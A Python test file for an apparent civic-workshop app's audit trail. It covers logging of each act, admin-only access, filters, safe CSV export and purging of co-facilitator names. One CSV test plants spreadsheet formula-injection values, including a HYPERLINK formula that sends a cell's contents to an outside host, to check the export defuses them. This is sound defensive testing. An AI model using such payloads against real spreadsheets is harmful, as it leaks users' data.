"""The audit trail is complete: every act that matters, done once through the domain, is
on it exactly once, naming who, what and which workshop (both databases). Only admins read
it; its filters work; its CSV is safe in a spreadsheet; a purge forgets co-facilitators."""

import csv
import io
from datetime import timedelta

import pytest
from sqlmodel import select

from livinglab import (
    agendas,
    cofacilitators,
    dialogue,
    insights,
    retention,
    sensemaking,
    settings,
    workshops,
)
from livinglab.errors import BadDate, RoleRequired, SignInRequired
from livinglab.models import Action, AuditEvent, Insight, Member, RecordChange, utcnow
from livinglab.organisation import audit, members, runs, sessions
from livinglab.organisation.audit import AuditAct
from livinglab.records import corrections, followups
from livinglab.records.library import facilitator_record
from tests.conftest import a_member, join

ORGANISATION = "gemeente-houten-2026"


def rows(session) -> list[tuple[str, str, str]]:
    """(who, what, workshop) of every row, in order."""
    return [
        (row.actor, row.act, row.workshop_code)
        for row in session.exec(select(AuditEvent).order_by(AuditEvent.id))
    ]


def taken_to_dialogue(session, code: str, key: str) -> int:
    """A story, a theme, a proposal decided with one action: the action's id."""
    _participant, token = join(session, code, role="resident")
    workshops.move_stage(session=session, code=code, key=key, step=1)  # collect
    card = insights.post_insight(
        session=session, code=code, token=token, text="De bus komt te laat", client_ref="1"
    )
    workshops.move_stage(session=session, code=code, key=key, step=1)  # sensemaking
    theme = sensemaking.create_theme(session=session, code=code, key=key, name="Vervoer")
    sensemaking.move_insight(
        session=session, code=code, key=key, insight_id=card.id, theme_id=theme.id
    )
    workshops.move_stage(session=session, code=code, key=key, step=1)  # dialogue
    proposal = dialogue.add_proposal(
        session=session, code=code, key=key, text="Een extra bus", theme_id=theme.id
    )
    decision = dialogue.decide(
        session=session,
        code=code,
        key=key,
        proposal_id=proposal.id,
        outcome="adopted",
        rationale="Iedereen wil het",
    )
    action = dialogue.add_action(
        session=session,
        code=code,
        key=key,
        decision_id=decision.id,
        what="Bel de vervoerder",
        owner="Team Vervoer",
        due="2027-01-31",
    )
    session.commit()
    return action.id


def test_every_act_is_on_the_trail_exactly_once(session, monkeypatch):
    monkeypatch.setattr(settings, "RECORDS_KEY", ORGANISATION)
    admin = a_member(session, "admin", name="Aisha")
    # A failed sign-in, then an invited facilitator joins.
    sessions.failed(session, address="10.0.0.3", account="eve@example.org", why="bad passkey")
    _invite, token = members.invite(session=session, by=admin, name="Fatima", roles=["facilitator"])
    fatima = members.as_signed_in(
        members.accept_invite(session, members.open_invite(session, token))
    )
    # A colleague signs in.
    bram_row = Member(name="Bram", roles="facilitator")
    session.add(bram_row)
    session.flush()
    bram_session = sessions.start(session, bram_row, method=sessions.PASSKEY)
    session.commit()
    # Fatima starts a workshop, makes and stops a co-facilitator link.
    workshop, key = agendas.create_prepared(
        session=session,
        by=fatima,
        title="Vervoer in Houten",
        question="Hoe komen mensen op tijd?",
        language="nl",
        uses_names=False,
    )
    code = workshop.code
    helper, _secret = cofacilitators.invite(session=session, code=code, key=key, label="Sanne")
    cofacilitators.revoke(session=session, code=code, key=key, cofacilitator_id=helper.id)
    action_id = taken_to_dialogue(session, code, key)
    workshops.move_stage(session=session, code=code, key=key, step=1)  # closed
    # The records library: a follow-up and a correction.
    followups.update_action(
        session=session, credential=ORGANISATION, action_id=action_id, status="in_progress"
    )
    (story,) = session.exec(select(Insight).where(Insight.workshop_id == workshop.id)).all()
    corrections.correct_as_reader(
        session=session,
        credential=ORGANISATION,
        code=code,
        change=RecordChange.HIDE_STORY,
        reason="Naam van een buurman",
        insight_id=story.id,
    )
    session.commit()
    workshops.move_stage(session=session, code=code, key=key, step=-1)  # reopened
    facilitator_record(session=session, code=code, key=key)  # exported
    runs.hand_over(session=session, by=fatima, code=code, key=key, to_member_id=bram_row.id)
    session.commit()
    retention.delete_workshop(session=session, code=code, key=bram_session, typed_code=code)
    members.set_roles(session=session, by=admin, member_id=fatima.member_id, roles=["admin"])
    members.remove(session=session, by=admin, member_id=fatima.member_id)
    session.commit()

    expected = {
        ("eve@example.org", AuditAct.SIGN_IN_FAILED, ""),
        ("Aisha", AuditAct.MEMBER_INVITED, ""),
        ("Fatima", AuditAct.MEMBER_JOINED, ""),
        ("Bram", AuditAct.SIGNED_IN, ""),
        ("Fatima", AuditAct.WORKSHOP_STARTED, code),
        ("Fatima", AuditAct.COFACILITATOR_LINK_MADE, code),
        ("Fatima", AuditAct.COFACILITATOR_LINK_STOPPED, code),
        ("Fatima", AuditAct.WORKSHOP_CLOSED, code),
        ("organisation", AuditAct.ACTION_FOLLOWED_UP, code),
        ("organisation", AuditAct.RECORD_CORRECTED, code),
        ("Fatima", AuditAct.WORKSHOP_REOPENED, code),
        ("Fatima", AuditAct.RECORD_EXPORTED, code),
        ("Fatima", AuditAct.WORKSHOP_HANDED_OVER, code),
        ("Bram", AuditAct.WORKSHOP_DELETED, code),
        ("Aisha", AuditAct.ROLES_CHANGED, ""),
        ("Aisha", AuditAct.MEMBER_REMOVED, ""),
    }
    trail = rows(session)
    assert sorted(trail) == sorted(expected), trail  # each once, nothing else, nothing doubled
    acts = [act for _who, act, _code in trail]
    assert len(acts) == len(set(acts))
    # The member acts keep the member's id, so that a renamed member is still found.
    by_act = {row.act: row for row in session.exec(select(AuditEvent))}
    assert by_act[AuditAct.WORKSHOP_DELETED].member_id == bram_row.id
    assert by_act[AuditAct.MEMBER_INVITED].member_id == admin.member_id
    assert by_act[AuditAct.WORKSHOP_HANDED_OVER].detail == "Bram"
    assert by_act[AuditAct.ROLES_CHANGED].detail == "Fatima: facilitator → admin"


def test_the_filters_find_who_what_which_workshop_and_when(session):
    admin = a_member(session, "admin", name="Aisha")
    fatima = a_member(session, "facilitator", name="Fatima")
    workshop, key = agendas.create_prepared(
        session=session, by=fatima, title="Zorg", question="?", language="nl", uses_names=False
    )
    other, _ = agendas.create_prepared(
        session=session, by=admin, title="Werk", question="?", language="nl", uses_names=False
    )
    cofacilitators.invite(session=session, code=workshop.code, key=key, label="Sanne")
    session.commit()

    def found(**filters):
        return [
            (line.actor, line.act, line.workshop)
            for line in audit.trail(session=session, by=admin, **filters)
        ]

    assert found(who="fat") == [
        ("Fatima", AuditAct.COFACILITATOR_LINK_MADE, workshop.code),
        ("Fatima", AuditAct.WORKSHOP_STARTED, workshop.code),
    ]
    assert found(act=AuditAct.WORKSHOP_STARTED) == [
        ("Aisha", AuditAct.WORKSHOP_STARTED, other.code),
        ("Fatima", AuditAct.WORKSHOP_STARTED, workshop.code),
    ]
    assert found(workshop=other.code.lower()) == [("Aisha", AuditAct.WORKSHOP_STARTED, other.code)]
    assert found(act="no_such_act") == found()  # an unknown act filters nothing
    today = utcnow().date()
    assert len(found(since=today.isoformat(), until=today.isoformat())) == 3
    assert found(until=(today - timedelta(days=1)).isoformat()) == []
    assert found(since=(today + timedelta(days=1)).isoformat()) == []
    assert found(who="%") == []  # a wildcard is a plain character
    with pytest.raises(BadDate):
        found(since="31-12-2026")


def test_only_admins_read_the_trail(session):
    facilitator = a_member(session, "facilitator", "records_updater", name="Fatima")
    with pytest.raises(SignInRequired):
        audit.trail(session=session, by=None)
    with pytest.raises(RoleRequired):
        audit.trail(session=session, by=facilitator)
    with pytest.raises(RoleRequired):
        audit.trail_csv(session=session, by=facilitator)


def test_the_csv_shows_formulas_as_text(session):
    admin = a_member(session, "admin", name="Aisha")
    evil = '=HYPERLINK("http://x.nl/"&A1,"klik")'
    sneaky = a_member(session, "facilitator", name=evil)
    agendas.create_prepared(
        session=session, by=sneaky, title="+SUM(A1)", question="?", language="nl", uses_names=False
    )
    session.commit()
    data = audit.trail_csv(session=session, by=admin, act=AuditAct.WORKSHOP_STARTED)
    (header, line) = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert header == ["id", "at_utc", "who", "act", "workshop", "detail"]
    who = line[2]
    assert evil in who and not who.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert line[3] == AuditAct.WORKSHOP_STARTED


def test_a_purge_forgets_cofacilitators_labels_but_keeps_the_rows(session, workshop):
    ws, key = workshop
    helper, _ = cofacilitators.invite(session=session, code=ws.code, key=key, label="Sanne Bakker")
    cofacilitators.revoke(session=session, code=ws.code, key=key, cofacilitator_id=helper.id)
    for _ in range(3):  # collect → sensemaking → dialogue → closed
        workshops.move_stage(session=session, code=ws.code, key=key, step=1)
    session.commit()
    before = rows(session)
    assert ("facilitator link", AuditAct.COFACILITATOR_LINK_MADE, ws.code) in before
    assert any("Sanne" in row.detail for row in session.exec(select(AuditEvent)))
    report = retention.purge_workshop(
        session=session, code=ws.code, now=utcnow() + timedelta(days=3650)
    )
    session.commit()
    assert report is not None
    assert rows(session) == before  # every row stays, with who did what
    for row in session.exec(select(AuditEvent)):
        assert "Sanne" not in row.actor and "Sanne" not in row.detail
    details = {row.act: row.detail for row in session.exec(select(AuditEvent))}
    assert details[AuditAct.COFACILITATOR_LINK_MADE] == audit.COFACILITATOR
    assert session.exec(select(Action)).all() == []  # (this workshop had no actions)
